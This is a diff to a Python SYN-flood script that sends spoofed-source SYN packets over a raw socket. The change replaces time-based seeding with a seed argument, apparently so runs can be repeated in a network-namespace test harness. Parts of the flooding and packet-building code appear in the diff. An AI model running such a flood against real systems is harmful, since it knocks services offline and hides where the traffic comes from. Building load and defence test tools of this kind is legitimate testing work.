@@ -1,4 +1,4 @@
-"""SYNs from invented sources, as fast as this goes:   syn_flood.py ADDR PORT SECONDS
+"""SYNs from invented sources, as fast as this goes:   syn_flood.py ADDR PORT SECONDS SEED
 
 In the namespace of the outside host, as root. Prints how many were sent.
 """
@@ -27,10 +27,10 @@ def syn(dice, destination, port):
     return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination) + tcp
 
 
-def main(address, port, seconds):
+def main(address, port, seconds, seed):
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     destination = socket.inet_aton(address)
-    dice = random.Random(time.time_ns())
+    dice = random.Random(seed)
     sent = 0
     end = time.monotonic() + seconds
     while time.monotonic() < end:
@@ -42,4 +42,4 @@ def main(address, port, seconds):
 
 
 if __name__ == "__main__":
-    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
+    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))
